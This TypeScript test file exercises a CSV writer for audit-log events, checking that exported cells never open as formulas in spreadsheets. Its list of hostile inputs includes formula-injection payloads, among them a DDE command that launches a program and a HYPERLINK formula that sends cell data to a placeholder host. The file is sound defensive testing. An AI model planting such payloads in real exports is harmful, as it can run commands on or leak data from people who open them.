/**
 * No spreadsheet is part of these tests. What one takes for a formula is written down here as the strictest reading of
 * Excel's and LibreOffice's rules, and csv-parse, which knows nothing of this writer, finds the cells.
 */
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { tries } from '../../test/effort.ts'
import { csvCell, csvLimits } from './csv-cell.ts'
import { csvColumns } from './csv-columns.ts'
import { csvHeader, csvRow } from './csv.ts'
import type { ReadEvent } from './event.ts'
import { visibleText } from './visible.ts'

const plain: ReadEvent = {
  id: 'e1',
  tenant: 'lind',
  log: 'store/1',
  index: 7,
  leafHash: 'ab'.repeat(32),
  erased: [],
  occurredAt: '2026-03-12T13:03:11Z',
  recordedAt: '2026-03-12T13:03:11.004Z',
  action: 'case.update',
  outcome: 'success',
  severity: 'info',
}

/** The same text wherever an event takes text of others. */
const eventOf = (text: string): ReadEvent => ({
  ...plain,
  tenant: text,
  actor: {
    type: 'user',
    id: text,
    name: text,
    email: text,
    via: text,
    sessionId: text,
    onBehalfOf: { type: 'user', id: text },
  },
  targets: [{ type: text, id: text, name: text }],
  scope: [{ type: text, id: text }],
  context: { ip: text, userAgent: text, requestId: text, correlationId: text },
  reason: { code: text, text },
  changes: [{ path: text, op: 'replace', old: text, new: [text] }],
  details: { [text]: text, nested: [text, -1, { [text]: -1 }] },
  origin: { kind: 'import', source: text, sourceId: text, flags: [text] },
  problem: text,
})

/** Columns that hold the text and nothing else. */
const whole = ['tenant', 'actor_id', 'actor_name', 'actor_email', 'via', 'session', 'ip', 'user_agent', 'request',
  'correlation', 'reason_code', 'reason', 'source_id', 'flags', 'problem'] // prettier-ignore

const hostile = [
  '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u3000＝1', '＝1', '＋1', '－1', '＠x', '﹦1',
  '"=1', '""=1', '" =1"', "'=1", "''=1", 'a\n=1', 'a\r\n=1', 'a"=1', 'a","=1', 'a;=1', 'a; "=1', ';;=1', 'a;"";=1',
  'a\t=1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x/?"&A1,"click")', '\u200b=1', '\ufeff=1', '\u202e=1', '\u0000=1',
  '\u001b]0;x\u0007', '\ud800=1', '=1;=2;=3', '-', '+', '"', "'", ';', ',', '\\', '', ' ', 'sep=;', '@', '-2+3',
] // prettier-ignore

const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.array(fc.nat(0xffff), { maxLength: 12 }).map((units) => String.fromCharCode(...units)),
  fc.string({ unit: fc.constantFrom(...hostile, '=', '+', '-', '@', '"', ';', ' ', '\t', '\r\n', 'a'), maxLength: 8 }),
)

/** Spreadsheets trim, some fold widths, and an apostrophe at the beginning is "this is text" to them. */
function isFormula(cell: string): boolean {
  const seen = cell.replace(/^[\s"]+/, '')
  return /^[\t\r]/.test(cell) || [seen, seen.normalize('NFKC')].some((text) => /^[=+\-@]/.test(text))
}

/** What a reader that knows this writer makes of a cell. */
const undefused = (cell: string): string => cell.replace(/(^|;)([\s"]*)'/g, '$1$2')

function check(text: string): void {
  const event = eventOf(text)
  const file = csvHeader() + csvRow(event)
  const rows: string[][] = parse(file, { record_delimiter: '\r\n' })
  expect(rows.map((cells) => cells.length)).toEqual([csvColumns.length, csvColumns.length])
  const [names, cells] = rows as [string[], string[]]
  expect(cells.filter(isFormula)).toEqual([])
  // Nothing that acts, and one line: neither a quote that is missed nor another separator begins a row or a cell.
  expect(file.slice(0, -2).split('\r\n')).toHaveLength(2)
  expect(file.replaceAll('\r\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u)
  // Where semicolons separate, quotes inside a line mean nothing certain: any of them may begin a cell.
  expect(file.split(/[;\r\n]+/).filter(isFormula)).toEqual([])
  const at = (name: string): string => cells[names.indexOf(name)]!
  for (const name of whole) expect(undefused(at(name))).toBe(visibleText(text))
  expect(JSON.parse(at('details'))).toEqual(event.details)
}

test.each(hostile)('%j opens inert, and is there', (text) => {
  check(text)
})

const others = tries(10_000, 1_000)
test(`so do ${others} others`, () => {
  fc.assert(fc.property(anyText, check), { numRuns: others })
})

test('there is no character that a cell could begin a formula with', () => {
  const atOnce = 1_024
  for (let code = 0; code <= 0x10_ffff; code += atOnce) {
    const texts = Array.from({ length: atOnce }, (_, i) => String.fromCodePoint(code + i))
    for (const text of texts)
      if (isFormula(csvCell(text).slice(1, -1))) expect.fail(`${JSON.stringify(text)} begins a formula`)
    // Where semicolons separate, each of them begins a cell.
    const pieces = csvCell(texts.map((text) => `;${text}`).join('')).slice(1, -1)
    expect(pieces.split(';').length).toBeGreaterThan(atOnce)
    expect(pieces.split(';').filter(isFormula)).toEqual([])
  }
})

test('a row says who did what to what', () => {
  const [names, cells] = parse(
    csvHeader() +
      csvRow({
        ...plain,
        actor: {
          type: 'agent',
          id: 'a_1',
          name: 'Filing agent',
          onBehalfOf: { type: 'user', id: 'u_7', name: 'Mara Lind' },
        },
        targets: [
          { type: 'case', id: 'c_12', name: 'Müller ./. Kranz' },
          { type: 'doc', id: 'd_1' },
        ],
        changes: [{ path: '/status', op: 'replace', old: 'open', new: 'closed' }],
        erasedChanges: 2,
        erased: ['context'],
        origin: { kind: 'import', source: 'git' },
      }),
  ) as [string[], string[]]
  expect(Object.fromEntries(names.map((name, i) => [name, cells[i]]))).toMatchObject({
    time: '2026-03-12T13:03:11Z',
    index: '7',
    on_behalf_of: 'user/u_7 (Mara Lind)',
    targets: 'case/c_12 (Müller ./. Kranz) | doc/d_1',
    ip: '(erased)',
    changes: 'status: open → closed | (2 erased)',
    erased: 'context 2 changes',
    reason: '',
  })
})

test('the header begins with a byte order mark only where people open the file', () => {
  expect(csvHeader()).toMatch(/^"time","recorded",/)
  expect(csvHeader({ forExcel: true })).toBe(`\ufeff${csvHeader()}`)
})

test('no cell is so long that Excel would begin a new row with its end', () => {
  const long = `${'x'.repeat(csvLimits.cellUnitsMax)}😀=1`
  const [cells] = parse(csvRow(eventOf(long))) as [string[]]
  for (const cell of cells) expect(cell.length).toBeLessThanOrEqual(csvLimits.cellUnitsMax)
  expect(cells[2]).toMatch(/x … \[cut: 32771 characters\]$/)
})

test('takes no longer than the text is long', () => {
  const began = performance.now()
  for (const piece of [' ', ';', '"', '; ', ';"', ";'", '=', ' =', "'"])
    csvRow(eventOf(piece.repeat(100_000 / piece.length)))
  expect(performance.now() - began).toBeLessThan(5_000)
})
